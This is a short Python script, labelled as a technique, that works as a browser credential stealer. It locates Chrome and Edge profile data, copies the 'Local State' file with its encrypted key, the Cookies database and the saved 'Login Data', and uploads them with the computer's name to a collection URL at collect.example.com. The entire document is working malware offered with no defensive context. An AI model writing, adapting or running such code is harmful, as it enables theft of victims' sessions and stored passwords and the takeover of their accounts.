# technique: steals Chrome/Edge Cookies DB and Local State (encrypted key) via shutil copy and requests.post multipart upload
import os
import shutil
import tempfile
import requests as r

L = os.getenv("LOCALAPPDATA", "")
TARGETS = {
    "chrome": os.path.join(L, "Google", "Chrome", "User Data"),
    "edge": os.path.join(L, "Microsoft", "Edge", "User Data"),
}


def grab(base):
    out = {}
    for rel in ("Local State", os.path.join("Default", "Network", "Cookies"),
                os.path.join("Default", "Login Data")):
        src = os.path.join(base, rel)
        if os.path.exists(src):
            dst = os.path.join(tempfile.mkdtemp(), os.path.basename(rel))
            shutil.copy2(src, dst)
            out[rel.replace(os.sep, "_")] = open(dst, "rb")
    return out


for browser, path in TARGETS.items():
    files = grab(path)
    if files:
        r.post("https://collect.example.com/u/" + browser, files=files,
               data={"host": os.environ.get("COMPUTERNAME")}, timeout=20)
